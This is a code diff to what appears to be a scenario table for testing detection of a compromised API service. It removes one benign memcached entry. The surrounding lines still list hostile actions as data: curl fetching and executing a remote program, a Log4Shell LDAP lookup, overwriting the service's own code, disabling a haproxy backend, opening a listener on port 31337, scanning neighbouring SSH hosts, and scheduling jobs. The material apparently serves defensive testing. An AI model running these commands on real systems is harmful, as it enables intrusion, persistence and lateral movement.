@@ -36,7 +36,6 @@ define(
     ("api looks up a class", "log4shell: a directory elsewhere is asked", evaluate(LDAP), ask("/price?id=8")),
     ("api fetches a program", "", command(f"curl -s -o /srv/api/exports/w {WEB}/tool; chmod 755 /srv/api/exports/w; /srv/api/exports/w"), ask("/export?what=c")),
     ("api is changed", "its own code is rewritten", evaluate("open('/srv/api/tools.py', 'w').write('x = 1')"), ask("/export?what=d")),
-    ("api asks memcached", "as it always does", evaluate("__import__('socket').create_connection(('127.0.0.1', 11211), 2).send(b'stats items')"), ask("/item?id=78")),
     ("api steers haproxy", "by its socket", command("echo 'disable server app/one' | nc -U -w 1 /run/haproxy/admin.sock"), unit("api-clean.service")),
     ("api listens", "", evaluate("[s := __import__('socket').create_server(('0.0.0.0', 31337)), __import__('time').sleep(0.3)]"), ask("/round?number=3")),
     ("api looks for neighbours", "", evaluate("[__import__('socket').socket().connect_ex(('10.20.0.%d' % n, 22)) for n in range(80, 90)]"), ask("/item?id=79")),
@@ -45,7 +44,6 @@ define(
     ("api starts a job", "", command("echo 'touch /tmp/x' | at now; crontab -l"), operator("crontab -l; sudo crontab -l")),
     natures={
         "api packs and keeps": "the program that exports are packed with; its arguments are no behaviour",
-        "api asks memcached": "a connection that it always makes",
         "api sends the exports": "a connection that it always makes",
     },
 )
